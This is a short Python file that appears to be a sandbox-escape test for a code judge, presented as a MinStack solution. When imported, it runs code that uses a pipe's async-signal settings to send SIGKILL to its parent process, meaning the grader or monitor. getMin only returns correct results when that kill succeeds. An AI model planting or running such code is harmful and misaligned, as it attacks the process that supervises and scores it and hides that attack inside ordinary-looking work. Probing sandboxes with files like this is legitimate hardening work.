# Has a pipe send SIGKILL to whoever watches, as soon as something can be read from it.
# Answers rightly only when that got through, so anything but WA is an escape.
GOT = False


def attack():
    import fcntl, os, signal
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(reader, fcntl.F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_NONBLOCK | fcntl.FASYNC)
    return os.write(writer, b"x") == 1


try:
    GOT = bool(attack())
except Exception:
    pass


class MinStack:
    def __init__(self):
        self.items = []

    def push(self, val):
        self.items.append(val)

    def pop(self):
        self.items.pop()

    def top(self):
        return self.items[-1]

    def getMin(self):
        return min(self.items) if GOT else None
